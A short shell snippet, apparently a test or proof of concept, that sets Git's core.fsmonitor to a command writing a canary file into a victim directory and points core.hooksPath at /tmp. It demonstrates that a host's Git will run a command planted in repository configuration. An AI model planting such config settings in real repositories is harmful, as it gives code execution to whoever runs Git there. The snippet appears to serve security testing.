# Names a program in the configuration that the host's Git reads.
git config core.fsmonitor "echo owned > '$VICTIM/canary'; false"
git config --file "$(git rev-parse --git-common-dir)/config" core.hooksPath /tmp
git config --worktree core.fsmonitor false
